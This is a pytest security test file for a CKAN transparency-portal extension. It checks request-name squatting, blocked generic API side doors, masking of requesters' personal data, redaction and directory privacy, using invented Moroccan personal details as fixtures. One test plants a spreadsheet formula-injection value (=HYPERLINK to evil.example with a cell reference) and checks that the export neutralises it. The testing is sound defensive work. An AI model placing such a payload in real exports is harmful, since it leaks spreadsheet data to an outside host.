"""Attacks on the request workflow and on personal data, each first shown to work
against the portal as it was (issue 16), then refused; redaction end to end."""
from __future__ import annotations

import csv
import io
import json

import pytest
import sqlalchemy as sa
from bs4 import BeautifulSoup
from werkzeug.datastructures import FileStorage

import ckan.plugins.toolkit as tk
from ckan import model
from ckan.lib.search import rebuild
from ckan.tests import factories, helpers

from ckanext.transparency import portal
from conftest import create, submit, transition

NAME_IN_TEXT = ("Je soussignée Zineb Outaleb-Qarmouchi, demeurant au 17, Derb Lbacha - Fes, "
                "demande le budget des écoles. Tél 0661/23/45/67.")
SECRETS = ["Outaleb", "Qarmouchi", "987654", "Lbacha", "zineb.qarmouchi", "23 45 67", "23/45/67",
           "requester@example.ma", "menacée"]


def _api(app, person, action, status=200, **data):
    headers = {"Authorization": person["token"]} if person.get("token") else {}
    return app.post(f"/api/3/action/{action}", json=data, headers=headers, status=status).json


def _public_outputs(app, people, pkg) -> str:
    """Everything a stranger can read about the request, as one text."""
    rebuild(pkg["id"])
    outputs: dict[str, object] = {
        "search": helpers.call_action("package_search", fq=f"id:{pkg['id']}",
                                      fl="data_dict,validated_data_dict,text,title,notes"),
        "activity": helpers.call_action("package_activity_list", id=pkg["id"], include_hidden_activity=True),
        "history": helpers.call_action("transparency_ati_request_history", {"user": "", "ignore_auth": False},
                                       id=pkg["id"]),
        "dcat": app.get(f"/dataset/{pkg['name']}.ttl").body,
        "catalog": app.get("/catalog.ttl").body,
        "search page": app.get("/ati-request/").body,
        "feed": app.get("/feeds/dataset.atom").body,
    }
    for person in ("anonymous", "citizen", "other_officer"):
        headers = {"Authorization": people[person]["token"]} if people[person]["token"] else {}
        outputs[f"api {person}"] = app.get(f"/api/3/action/package_show?id={pkg['id']}", headers=headers).json
        outputs[f"page {person}"] = app.get(f"/ati-request/{pkg['name']}", headers=headers).body
    text = json.dumps(outputs, default=str, ensure_ascii=False)
    assert pkg["tracking_number"] in outputs["page anonymous"]  # the outputs were really read
    return text


def _no_secret(text: str, *more: str) -> None:
    for secret in (*SECRETS, *more):
        assert secret not in text, secret


# 1. Request names cannot be taken by another record.

def test_a_record_cannot_take_the_name_of_a_future_request(app, people):
    number = f"dai-{portal.today().year}-000001"
    for name in (number, f"dai-{portal.today().year}-999999", "dai-2030-1"):
        error = _api(app, people["other_officer"], "package_create", status=409, type="dataset", name=name,
                     title="Squat", owner_org="mef", theme="GOVE")["error"]
        assert "DAI" in " ".join(error["name"])
    pkg = submit(people["requester"])
    assert pkg["name"] == number


def test_a_name_taken_before_names_were_reserved_is_skipped(people):
    squat = create(people["sysadmin"], "dataset", "ancien-jeu", "mef", title="Ancien")
    model.Session.query(model.Package).filter_by(id=squat["id"]).update({"name": f"dai-{portal.today().year}-000001"})
    model.repo.commit()
    pkg = submit(people["requester"])
    assert pkg["name"] == f"dai-{portal.today().year}-000002"


# 2. No generic action changes a request outside its workflow.

SIDE_DOORS = [
    ("bulk_update_private", lambda p, org: {"datasets": [p["id"]], "org_id": org}),
    ("bulk_update_delete", lambda p, org: {"datasets": [p["id"]], "org_id": org}),
    ("bulk_update_public", lambda p, org: {"datasets": [p["id"]], "org_id": org}),
    ("package_patch", lambda p, org: {"id": p["id"], "ati_state": "answered"}),
    ("package_update", lambda p, org: dict(p, title="Autre")),
    ("package_revise", lambda p, org: {"match": {"id": p["id"]}, "update": {"title": "Autre"}}),
    ("package_delete", lambda p, org: {"id": p["id"]}),
    ("dataset_purge", lambda p, org: {"id": p["id"]}),
    ("package_owner_org_update", lambda p, org: {"id": p["id"], "organization_id": "mef"}),
    ("resource_create", lambda p, org: {"package_id": p["id"], "url": "https://example.org/x.pdf", "name": "x"}),
    ("package_collaborator_create", lambda p, org: {"id": p["id"], "user_id": "citizen", "capacity": "editor"}),
    ("member_create", lambda p, org: {"id": "theme", "object": p["id"], "object_type": "package",
                                      "capacity": "public"}),
    ("package_relationship_create", lambda p, org: {"subject": p["id"], "object": "autre", "type": "child_of"}),
]


@pytest.mark.parametrize("action,body", SIDE_DOORS, ids=[a for a, _ in SIDE_DOORS])
@pytest.mark.parametrize("person", ["admin_of_asked", "sysadmin"])
def test_no_generic_action_changes_a_request(app, people, action, body, person):
    admin = factories.User(name="chef-mrafp")
    helpers.call_action("organization_member_create", id="mrafp", username="chef-mrafp", role="admin")
    people["admin_of_asked"] = dict(admin, token=helpers.call_action(
        "api_token_create", {"user": "chef-mrafp"}, user="chef-mrafp", name="t")["token"])
    factories.Group(name="theme", users=[{"name": "chef-mrafp", "capacity": "admin"}])
    create(people["sysadmin"], "dataset", "autre", "mrafp")
    pkg = submit(people["requester"])
    _api(app, people[person], action, status=403, **body(pkg, people["orgs"]["asked"]["id"]))
    shown = _api(app, people["anonymous"], "package_show", id=pkg["id"])["result"]
    assert (shown["state"], shown["private"], shown["ati_state"]) == ("active", False, "received")
    assert shown["title"] == pkg["title"] and shown["resources"] == [] and shown["groups"] == []
    mine = _api(app, people["requester"], "transparency_ati_request_list_mine")["result"]
    assert [p["id"] for p in mine] == [pkg["id"]]


def test_a_request_s_resources_change_through_the_workflow_only(app, people):
    pkg = submit(people["requester"])
    transition(people["officer"], pkg, "answer", answer="Voici le budget.", document_url="https://example.org/b.pdf")
    resource = helpers.call_action("package_show", id=pkg["id"])["resources"][0]
    for action, body in [("resource_patch", {"id": resource["id"], "name": "Autre"}),
                         ("resource_delete", {"id": resource["id"]})]:
        _api(app, people["officer"], action, status=403, **body)
    assert helpers.call_action("package_show", id=pkg["id"])["resources"][0]["name"] == resource["name"]


def test_other_records_keep_their_usual_rights(app, people):
    """The guards stand in front of requests only."""
    dataset = create(people["sysadmin"], "dataset", "budget", "mrafp")
    _api(app, people["officer"], "package_patch", id=dataset["id"], title="Budget 2026")
    _api(app, people["sysadmin"], "bulk_update_private", datasets=[dataset["id"]],
         org_id=people["orgs"]["asked"]["id"])
    _api(app, people["other_officer"], "package_patch", status=403, id=dataset["id"], title="Non")


# 3 and 4. What the requester gave is masked in everything published from the request.

def test_identity_typed_in_the_text_and_the_answer_is_never_published(app, people):
    pkg = submit(people["requester"], notes=NAME_IN_TEXT, title="Budget de Mme Qarmouchi", urgent=True,
                 urgent_reason="Ma sécurité est menacée à Derb Lbacha")
    _no_secret(_public_outputs(app, people, pkg))
    transition(people["officer"], pkg, "request_clarification", note="Mme Outaleb-Qarmouchi, précisez l'année.")
    transition(people["requester"], pkg, "clarify", note="2025. Ma CIN est ZQ-987654.")
    _no_secret(_public_outputs(app, people, pkg))
    answer = {"answer": "Madame Zineb Outaleb-Qarmouchi (zineb.qarmouchi@example.ma, AB.123456), voici le budget.",
              "note": "Envoyé au 17 derb Lbacha, Fès."}
    letter = b"Reponse a Zineb Outaleb-Qarmouchi, 17 derb Lbacha: le budget 2025."
    with pytest.raises(tk.ValidationError) as refused:  # masking cannot reach inside a downloaded file
        transition(people["officer"], pkg, "answer", document_name="Lettre",
                   upload=FileStorage(io.BytesIO(letter), filename="lettre.txt"), **answer)
    assert "lettre.txt" in refused.value.error_dict["upload"][0]
    assert helpers.call_action("package_show", id=pkg["id"])["ati_state"] == "in-progress"  # nothing changed
    transition(people["officer"], pkg, "answer", document_name="Réponse à Mme Qarmouchi",
               upload=FileStorage(io.BytesIO(b"Budget 2025 par ecole."), filename="reponse-zineb-qarmouchi.txt"),
               **answer)
    _no_secret(_public_outputs(app, people, pkg), people["requester"]["id"], "reponse-zineb")
    shown = helpers.call_action("package_show", id=pkg["id"])
    assert shown["answer"].startswith("Madame […]") and "voici le budget" in shown["answer"]
    assert [r["name"] for r in shown["resources"]] == ["Réponse à Mme […]"]
    assert "qarmouchi" not in shown["resources"][0]["url"].lower()
    transition(people["requester"], pkg, "complain_head", note="Je suis Zineb Outaleb, la réponse est partielle.")
    _no_secret(_public_outputs(app, people, pkg))
    # The people concerned still read the originals.
    for person in ("requester", "officer", "sysadmin"):
        who = _api(app, people[person], "transparency_ati_requester_show", id=pkg["id"])["result"]
        assert "Zineb Outaleb-Qarmouchi, demeurant au 17" in who["original_text"]
        history = _api(app, people[person], "transparency_ati_request_history", id=pkg["id"])["result"]
        assert any("zineb.qarmouchi@example.ma" in (e.get("original") or "") for e in history)
    stranger = _api(app, people["citizen"], "transparency_ati_request_history", id=pkg["id"])["result"]
    assert all("original" not in e for e in stranger)


def test_the_officer_previews_what_will_be_public_and_marks_more(app, people):
    pkg = submit(people["requester"])
    headers = {"Authorization": people["officer"]["token"]}
    page = app.post(tk.url_for("ati.preview", id=pkg["name"]), headers=headers, data={
        "transition": "answer", "answer": "Pour Zineb Outaleb-Qarmouchi : voir le dossier de M. Alaoui.",
        "redact": "M. Alaoui", "_csrf_token": ""})
    soup = BeautifulSoup(page.body, "html.parser")
    answer = soup.select_one('[data-field="answer"]')
    assert [m.get_text() for m in answer.select("mark")] == ["Zineb Outaleb-Qarmouchi", "M. Alaoui"]
    assert soup.select_one("#preview-redact").get_text() == "M. Alaoui"
    assert set(page.headers["Cache-Control"].split(", ")) == {"private", "no-store"}
    app.post(tk.url_for("ati.preview", id=pkg["name"]), headers={"Authorization": people["citizen"]["token"]},
             data={"transition": "answer", "answer": "x"}, status=403)
    transition(people["officer"], pkg, "answer", answer="Voir le dossier de M. Alaoui.", redact="M. Alaoui")
    assert helpers.call_action("package_show", id=pkg["id"])["answer"] == "Voir le dossier de […]."


def test_a_document_can_go_to_the_requester_only(app, people):
    pkg = submit(people["requester"])
    transition(people["officer"], pkg, "answer", answer="Voir la pièce jointe.", document_audience="requester",
               document_name="Dossier médical", upload=FileStorage(io.BytesIO(b"dossier personnel"),
                                                                    filename="dossier.txt"))
    assert helpers.call_action("package_show", id=pkg["id"])["resources"] == []
    kept = _api(app, people["requester"], "transparency_ati_document_list", id=pkg["id"])["result"]
    assert [d["name"] for d in kept] == ["Dossier médical"]
    url = tk.url_for("ati.document", id=pkg["name"], document_id=kept[0]["id"])
    got = app.get(url, headers={"Authorization": people["requester"]["token"]})
    assert got.data == b"dossier personnel"
    assert {"private", "no-store"} <= set(got.headers["Cache-Control"].split(", "))
    app.get(url, headers={"Authorization": people["citizen"]["token"]}, status=403)
    _api(app, people["citizen"], "transparency_ati_document_list", status=403, id=pkg["id"])


# 8. Redaction after publication.

def test_the_cdai_redacts_a_published_passage_everywhere(app, people):
    pkg = submit(people["requester"])
    transition(people["officer"], pkg, "answer", answer="Le marché a été attribué à la société Atlas Conseil.",
               document_url="https://example.org/marche.pdf", document_name="Contrat Atlas Conseil")
    assert "Atlas Conseil" in _public_outputs(app, people, pkg)
    _api(app, people["officer"], "transparency_ati_request_redact", status=403, id=pkg["id"],
         passage="Atlas Conseil", reason="Secret des affaires (art. 7)")
    error = _api(app, people["sysadmin"], "transparency_ati_request_redact", status=409, id=pkg["id"],
                 passage="introuvable", reason="x")["error"]
    assert "passage" in error
    _api(app, people["sysadmin"], "transparency_ati_request_redact", id=pkg["id"], passage="Atlas Conseil",
         reason="Secret des affaires (art. 7)")
    text = _public_outputs(app, people, pkg)
    assert "Atlas" not in text
    assert helpers.call_action("package_search", q="Atlas", fq="type:ati-request")["count"] == 0
    history = _api(app, people["anonymous"], "transparency_ati_request_history", id=pkg["id"])["result"]
    assert (history[-1]["transition"], history[-1]["note"]) == ("redact", "Secret des affaires (art. 7)")
    page = BeautifulSoup(app.get(f"/ati-request/{pkg['name']}").body, "html.parser")
    entries = [li.get_text(" ", strip=True) for li in page.select(".transparency-ati-history li")]
    assert "Caviardé" in entries[-1] and "Secret des affaires" in entries[-1]
    audit = model.Session.execute(sa.text("SELECT original, reason FROM transparency_redaction")).all()
    assert [tuple(row) for row in audit] == [("Atlas Conseil", "Secret des affaires (art. 7)")]


def test_the_cdai_hides_a_published_document(app, people):
    pkg = submit(people["requester"])
    transition(people["officer"], pkg, "answer", answer="Voir le document.", document_name="Liste nominative",
               upload=FileStorage(io.BytesIO(b"noms et adresses"), filename="liste.csv"))
    resource = helpers.call_action("package_show", id=pkg["id"])["resources"][0]
    download = f"/dataset/{pkg['id']}/resource/{resource['id']}/download/liste.csv"
    assert app.get(download).data == b"noms et adresses"
    _api(app, people["sysadmin"], "transparency_ati_request_redact", id=pkg["id"], resource_id=resource["id"],
         reason="Données personnelles de tiers")
    assert helpers.call_action("package_show", id=pkg["id"])["resources"] == []
    app.get(download, status=404)
    assert "Liste nominative" not in _public_outputs(app, people, pkg)
    kept = _api(app, people["requester"], "transparency_ati_document_list", id=pkg["id"])["result"]
    assert [(d["name"], d["reason"]) for d in kept] == [("Liste nominative", "Données personnelles de tiers")]
    got = app.get(tk.url_for("ati.document", id=pkg["name"], document_id=kept[0]["id"]),
                  headers={"Authorization": people["officer"]["token"]})
    assert got.data == b"noms et adresses"


# Contributions go through the same masking.

def test_contributions_are_masked_and_their_export_is_inert(app, people):
    from test_consultations import consultation, contribute, moderate
    contributor = factories.User(name="contributrice", fullname="Rkia Bensaddik-Oulmes",
                                 email="rkia.oulmes@example.ma")
    pkg = consultation(people)
    item = contribute(contributor, pkg, text="Rkia Bensaddik-Oulmes, joignable au 0661 12 34 56 : d'accord.",
                      section="=HYPERLINK(\"https://evil.example/?\"&A1)")
    assert item["text"] == "[…], joignable au […] : d'accord."
    moderate(people["officer"], item, "publish")
    public = json.dumps(helpers.call_action("transparency_contribution_list", id=pkg["id"]), ensure_ascii=False)
    assert "Bensaddik" not in public and "0661" not in public
    csv_text = app.get(tk.url_for("consultation_views.export", id=pkg["name"]),
                       headers={"Authorization": people["officer"]["token"]}).data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert rows[0]["section"].startswith("'=HYPERLINK")
    assert rows[0]["original_text"].startswith("Rkia Bensaddik-Oulmes, joignable au 0661")


# 5. The people's directory is private.

@pytest.mark.parametrize("action,data", [("user_list", {}), ("user_autocomplete", {"q": "req"}),
                                         ("user_show", {"id": "requester"})])
def test_signed_in_people_see_no_one_else_s_account(app, people, action, data):
    for person in ("citizen", "officer", "other_officer"):
        response = _api(app, people[person], action, status=403, **data)
        assert "requester" not in json.dumps(response)
    _api(app, people["sysadmin"], action, **data)


def test_one_sees_one_s_own_account_and_admins_their_members(app, people):
    assert _api(app, people["citizen"], "user_show", id="citizen")["result"]["name"] == "citizen"
    factories.User(name="chef-mrafp")
    helpers.call_action("organization_member_create", id="mrafp", username="chef-mrafp", role="admin")
    token = helpers.call_action("api_token_create", {"user": "chef-mrafp"}, user="chef-mrafp", name="t")["token"]
    assert _api(app, {"token": token}, "user_show", id="officer")["result"]["name"] == "officer"
    _api(app, {"token": token}, "user_show", status=403, id="requester")
    app.get("/user/requester", headers={"Authorization": people["citizen"]["token"]}, status=403)
